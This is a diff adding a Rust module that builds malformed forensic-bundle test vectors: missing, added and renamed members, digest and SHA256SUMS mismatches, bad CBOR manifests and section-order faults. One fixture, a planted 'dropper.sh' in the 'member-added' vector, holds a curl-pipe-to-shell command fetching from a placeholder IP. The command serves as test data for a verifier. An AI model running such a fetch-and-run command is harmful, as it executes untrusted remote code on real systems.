@@ -1,0 +1,338 @@
+//! The member set, the manifest, the order of sections and members, member content and
+//! `SHA256SUMS` (SPEC §2.3, §4–§7, §11 steps 3–8). Each is the base bundle re-zipped with fresh
+//! CRCs; where the manifest changes, `SHA256SUMS` and the seal are remade for it so that only the
+//! intended class fires.
+
+use super::{Fixtures, vector};
+use crate::cose::encode;
+use crate::fixture::t;
+use crate::rezip::{Archive, Item};
+use crate::{Error, Vector};
+use ciborium::Value;
+use forensic_bundle::digest::Digest;
+use forensic_bundle::verify::FailureClass::*;
+use forensic_bundle::{CUSTODY, MANIFEST, SHA256SUMS};
+
+const PS: &str = "1-processes/ps.txt";
+const TCP: &str = "2-network/tcp.txt";
+const POD: &str = "6-podspec/pod-spec.yaml";
+
+/// `bytes` with the first occurrence of `from` replaced by `to`.
+fn replace(bytes: &[u8], from: &[u8], to: &[u8]) -> Result<Vec<u8>, Error> {
+    let at = bytes
+        .windows(from.len())
+        .position(|w| w == from)
+        .ok_or_else(|| Error::new(format!("{:?} not found", String::from_utf8_lossy(from))))?;
+    let mut out = bytes.get(..at).unwrap_or_default().to_vec();
+    out.extend_from_slice(to);
+    out.extend_from_slice(bytes.get(at + from.len()..).unwrap_or_default());
+    Ok(out)
+}
+
+/// The entry `key` of a CBOR map value.
+fn field<'a>(v: &'a mut Value, key: &str) -> Result<&'a mut Value, Error> {
+    v.as_map_mut()
+        .and_then(|m| m.iter_mut().find(|(k, _)| k.as_text() == Some(key)))
+        .map(|(_, v)| v)
+        .ok_or_else(|| Error::new(format!("no map key {key:?}")))
+}
+
+/// Vectors that change the archive's member list, not the manifest.
+fn member_set(fx: &Fixtures) -> Result<Vec<Vector>, Error> {
+    let mut removed = fx.base_archive()?;
+    removed.remove(TCP)?;
+    let mut added = fx.base_archive()?;
+    let at = added.position(POD)?;
+    let dropper = Item {
+        name: "5-filesystem/tmp/dropper.sh".into(),
+        content: b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n".to_vec(),
+        deflate: true,
+    };
+    added.items.insert(at, dropper);
+    let mut renamed = fx.base_archive()?;
+    renamed.item_mut(POD)?.name = "6-podspec/pod-spec.yml".into();
+    let mut no_custody = fx.base_archive()?;
+    no_custody.remove(CUSTODY)?;
+    let mut changed = fx.base_archive()?;
+    changed.set(TCP, replace(changed.content(TCP)?, b"31337", b"31338")?)?;
+    let mut swapped = fx.base_archive()?;
+    swapped.swap(PS, TCP)?;
+    let mut misplaced = fx.base_archive()?;
+    misplaced.swap(MANIFEST, SHA256SUMS)?;
+    Ok(vec![
+        vector(
+            "member-removed",
+            "An evidence member the manifest lists is absent from the archive (SPEC §11 step 5).",
+            &[MissingMember],
+            removed.write()?,
+        ),
+        vector(
+            "member-missing-custody",
+            "The custody.cbor metadata member is absent (SPEC §11 step 3).",
+            &[MissingMember],
+            no_custody.write()?,
+        ),
+        vector(
+            "member-added",
+            "The archive holds an evidence member the manifest does not list (SPEC §11 step 5).",
+            &[UnexpectedMember],
+            added.write()?,
+        ),
+        vector(
+            "member-renamed",
+            "An evidence member renamed in the archive: the listed name is missing and the new one unexpected (SPEC §11 step 5).",
+            &[MissingMember, UnexpectedMember],
+            renamed.write()?,
+        ),
+        vector(
+            "digest-content-changed",
+            "One byte of an evidence member's content changed, with a correct CRC-32: its SHA-256 differs from the manifest's (SPEC §11 step 7).",
+            &[DigestMismatch],
+            changed.write()?,
+        ),
+        vector(
+            "order-archive-swapped",
+            "Two evidence members are in the archive in the opposite order to the manifest (SPEC §2.3, §11 step 6).",
+            &[SectionOrder],
+            swapped.write()?,
+        ),
+        vector(
+            "order-metadata-misplaced",
+            "SHA256SUMS comes before manifest.cbor in the archive (SPEC §2.3).",
+            &[SectionOrder],
+            misplaced.write()?,
+        ),
+    ])
+}
+
+/// Vectors that change `SHA256SUMS` or the manifest without resealing.
+fn sums(fx: &Fixtures) -> Result<Vec<Vector>, Error> {
+    let a = fx.base_archive()?;
+    let m = a.manifest()?;
+    let tcp = m
+        .members
+        .iter()
+        .find(|x| x.name == TCP)
+        .ok_or_else(|| Error::new("no tcp member"))?;
+    let mut wrong = fx.base_archive()?;
+    let other = Digest::of(b"something else").hex();
+    wrong.set(
+        SHA256SUMS,
+        replace(a.content(SHA256SUMS)?, tcp.sha256.hex().as_bytes(), other.as_bytes())?,
+    )?;
+    let mut no_lf = fx.base_archive()?;
+    let text = a.content(SHA256SUMS)?;
+    no_lf.set(
+        SHA256SUMS,
+        text.get(..text.len().saturating_sub(1)).unwrap_or_default().to_vec(),
+    )?;
+
+    let mut edited = m.clone();
+    edited.case.examiner = Some("Someone Else".into());
+    let edited_bytes = edited.to_cbor()?;
+    let mut unsealed = fx.base_archive()?;
+    unsealed.set(MANIFEST, edited_bytes.clone())?;
+    let mut sums_updated = unsealed.clone();
+    sums_updated.set(
+        SHA256SUMS,
+        forensic_bundle::sums::render(&edited, &Digest::of(&edited_bytes)).into_bytes(),
+    )?;
+    Ok(vec![
+        vector(
+            "sums-wrong-digest",
+            "One SHA256SUMS line carries a digest other than the manifest's (SPEC §7).",
+            &[SumsMismatch],
+            wrong.write()?,
+        ),
+        vector(
+            "sums-no-final-newline",
+            "SHA256SUMS without the line feed after its last line (SPEC §7: every line ends with LF).",
+            &[SumsMismatch],
+            no_lf.write()?,
+        ),
+        vector(
+            "manifest-edited-not-resealed",
+            "The manifest's examiner changed afterwards: SHA256SUMS and the seal both carry the old manifest digest (SPEC §7, §9.3 rule 5).",
+            &[SealMismatch, SumsMismatch],
+            unsealed.write()?,
+        ),
+        vector(
+            "manifest-edited-sums-updated",
+            "The manifest's examiner changed and SHA256SUMS updated to match, but the seal still signs the old manifest digest (SPEC §9.3 rule 5).",
+            &[SealMismatch],
+            sums_updated.write()?,
+        ),
+    ])
+}
+
+/// Vectors whose manifest breaks SPEC §6, resealed so that only that shows.
+fn manifest(fx: &Fixtures) -> Result<Vec<Vector>, Error> {
+    let m = fx.base_archive()?.manifest()?;
+    let value = Value::serialized(&m)?;
+    // Each variant: re-encoded manifest bytes, resealed with SHA256SUMS for the unchanged listing.
+    let resealed = |bytes: Vec<u8>| -> Result<Vec<u8>, Error> {
+        let mut a = fx.base_archive()?;
+        a.reseal(bytes, &m, "alice", "alice")?;
+        a.write()
+    };
+
+    let mut dup_key = value.clone();
+    let id = field(&mut dup_key, "bundle_id")?.clone();
+    dup_key
+        .as_map_mut()
+        .ok_or_else(|| Error::new("not a map"))?
+        .push((Value::Text("bundle_id".into()), id));
+
+    let encoded = m.to_cbor()?;
+    let tail = [&[0x64][..], b"gaps", &[0x80]].concat();
+    let stem = encoded
+        .strip_suffix(&tail[..])
+        .ok_or_else(|| Error::new("the manifest does not end with an empty gaps array"))?;
+    let indefinite = [stem, &[0x64], b"gaps", &[0x9f, 0xff]].concat();
+
+    let mut wrong_type = value.clone();
+    let members = field(&mut wrong_type, "members")?
+        .as_array_mut()
+        .ok_or_else(|| Error::new("members is not an array"))?;
+    let second = members.get_mut(1).ok_or_else(|| Error::new("fewer than two members"))?;
+    let size = field(second, "size")?;
+    *size = Value::Text(format!("{}", size.as_integer().map(i128::from).unwrap_or_default()));
+
+    let mut bad_time = value.clone();
+    *field(&mut bad_time, "created")? = Value::Text("2026-01-02T03:04:05Z".into());
+
+    let mut trailing = encoded.clone();
+    trailing.push(0xf6);
+
+    let mut dup_member = m.clone();
+    let first = dup_member
+        .members
+        .first()
+        .cloned()
+        .ok_or_else(|| Error::new("no members"))?;
+    dup_member.members.insert(1, first);
+    let mut dup_member_archive = fx.base_archive()?;
+    dup_member_archive.reseal_manifest(&dup_member)?;
+
+    let mut v2 = m.clone();
+    v2.version = 2;
+    let mut v2_archive = fx.base_archive()?;
+    v2_archive.reseal_manifest(&v2)?;
+
+    Ok(vec![
+        vector(
+            "manifest-duplicate-key",
+            "The manifest map has the key bundle_id twice, with the same value (SPEC §6: no duplicate keys).",
+            &[MalformedManifest],
+            resealed(encode(&dup_key)?)?,
+        ),
+        vector(
+            "manifest-indefinite-length",
+            "The manifest's empty gaps array is encoded with indefinite length (SPEC §6: definite lengths only).",
+            &[MalformedManifest],
+            resealed(indefinite)?,
+        ),
+        vector(
+            "manifest-wrong-type",
+            "A member's size is a text string of digits instead of an unsigned integer (SPEC §6: keys have exactly the types given).",
+            &[MalformedManifest],
+            resealed(encode(&wrong_type)?)?,
+        ),
+        vector(
+            "manifest-bad-time",
+            "The manifest's created time has no fraction digits (SPEC §5: always nine).",
+            &[MalformedManifest],
+            resealed(encode(&bad_time)?)?,
+        ),
+        vector(
+            "manifest-trailing-bytes",
+            "manifest.cbor holds a second CBOR item (null) after the manifest map (SPEC §6: one data item).",
+            &[MalformedManifest],
+            resealed(trailing)?,
+        ),
+        vector(
+            "manifest-duplicate-member",
+            "The manifest lists the same member twice (SPEC §6: member names are unique).",
+            &[MalformedManifest],
+            dup_member_archive.write()?,
+        ),
+        vector(
+            "manifest-version-2",
+            "The manifest says format version 2 (SPEC §6).",
+            &[UnsupportedVersion],
+            v2_archive.write()?,
+        ),
+    ])
+}
+
+/// Vectors whose manifest breaks the section rules of SPEC §4 (§11 step 6), resealed.
+fn order(fx: &Fixtures) -> Result<Vec<Vector>, Error> {
+    let m = fx.base_archive()?.manifest()?;
+
+    let mut decreasing = m.clone();
+    decreasing.members.swap(0, 1);
+    let mut decreasing_a = fx.base_archive()?;
+    decreasing_a.swap(PS, TCP)?;
+    decreasing_a.reseal_manifest(&decreasing)?;
+
+    let mut prefix = m.clone();
+    let renamed = "1-processes/tcp.txt";
+    prefix
+        .members
+        .get_mut(1)
+        .ok_or_else(|| Error::new("no second member"))?
+        .name = renamed.into();
+    let mut prefix_a = fx.base_archive()?;
+    prefix_a.item_mut(TCP)?.name = renamed.into();
+    prefix_a.reseal_manifest(&prefix)?;
+
+    let mut unlisted = m.clone();
+    unlisted.sections.remove(1);
+    let mut unlisted_a = fx.base_archive()?;
+    unlisted_a.reseal_manifest(&unlisted)?;
+
+    let mut overlap = m.clone();
+    overlap
+        .sections
+        .get_mut(1)
+        .ok_or_else(|| Error::new("no second section"))?
+        .started = t(12)?;
+    let mut overlap_a = fx.base_archive()?;
+    overlap_a.reseal_manifest(&overlap)?;
+
+    let as_vec = |a: Archive| a.write();
+    Ok(vec![
+        vector(
+            "order-members-decreasing",
+            "The manifest lists a network member before a processes member (and the archive follows it): sections out of order (SPEC §4).",
+            &[SectionOrder],
+            as_vec(decreasing_a)?,
+        ),
+        vector(
+            "order-wrong-prefix",
+            "A member of the network section is named 1-processes/tcp.txt (SPEC §3, §4: names begin with their section's prefix).",
+            &[SectionOrder],
+            as_vec(prefix_a)?,
+        ),
+        vector(
+            "order-section-not-listed",
+            "The network section has a member but is missing from the manifest's sections list (SPEC §4).",
+            &[SectionOrder],
+            as_vec(unlisted_a)?,
+        ),
+        vector(
+            "order-sections-overlap",
+            "The network section started before the processes section finished (SPEC §4).",
+            &[SectionOrder],
+            as_vec(overlap_a)?,
+        ),
+    ])
+}
+
+pub(super) fn vectors(fx: &Fixtures) -> Result<Vec<Vector>, Error> {
+    let mut out = member_set(fx)?;
+    out.extend(sums(fx)?);
+    out.extend(manifest(fx)?);
+    out.extend(order(fx)?);
+    Ok(out)
+}
